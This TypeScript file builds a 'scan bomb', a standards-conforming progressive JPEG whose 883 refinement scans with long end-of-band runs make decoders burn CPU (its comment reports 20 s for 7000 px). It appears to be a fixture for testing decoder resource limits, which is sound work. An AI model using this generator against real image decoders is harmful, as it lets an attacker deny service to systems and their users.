import { segment } from "./build-jpeg.ts"

/** A Huffman table of one symbol, whose code is one bit: 0. */
const tableOf = (destination: number, symbol: number): Buffer =>
  segment(0xc4, Buffer.from([destination, 1, ...Array<number>(15).fill(0), symbol]))

const packBits = (bits: string): Buffer => {
  const bytes = bits.match(/.{1,8}/g) ?? []
  // 0xff is followed by 0, or it would be a marker.
  return Buffer.from(bytes.flatMap((byte) => (byte === "11111111" ? [0xff, 0] : parseInt(byte.padEnd(8, "1"), 2))))
}

/** "End of blocks" of category 14 passes over 2^14 blocks and as many more as the 14 bits behind its code say. */
const category = 14

/**
 * A grey progressive JPEG that is sound to the letter, yet nothing but grey in 883 scans: each coefficient is refined bit
 * by bit, and each time a few bytes say that nothing changes in hundreds of thousands of blocks. Decoding one of 7000 px
 * took 20 s.
 *
 * @param side px, a multiple of 8, at least 1,448
 */
export const scanBomb = (side: number): Buffer => {
  const blocks = (side / 8) ** 2
  const count = Math.ceil(blocks / (2 ** (category + 1) - 1))
  const runs = Array.from({ length: count }, (_, index) => Math.floor((blocks + index) / count))
  const nothing = packBits(runs.map((run) => `0${(run - 2 ** category).toString(2).padStart(category, "0")}`).join(""))

  const scan = (coefficient: number, bits: number, pixels: Buffer) =>
    Buffer.concat([segment(0xda, Buffer.from([1, 1, 0, coefficient, coefficient, bits])), pixels])
  const refinements = [13, ...Array.from({ length: 13 }, (_, index) => ((13 - index) << 4) | (12 - index))]
  return Buffer.concat([
    Buffer.from([0xff, 0xd8]),
    segment(0xdb, Buffer.from([0, ...Array<number>(64).fill(1)])),
    segment(0xc2, Buffer.from([8, side >> 8, side & 0xff, side >> 8, side & 0xff, 1, 1, 0x11, 0])),
    tableOf(0x00, 0),
    scan(0, 0, packBits("0".repeat(blocks))),
    tableOf(0x10, category << 4),
    ...Array.from({ length: 63 }, (_, index) => refinements.map((bits) => scan(index + 1, bits, nothing))).flat(),
    Buffer.from([0xff, 0xd9]),
  ])
}
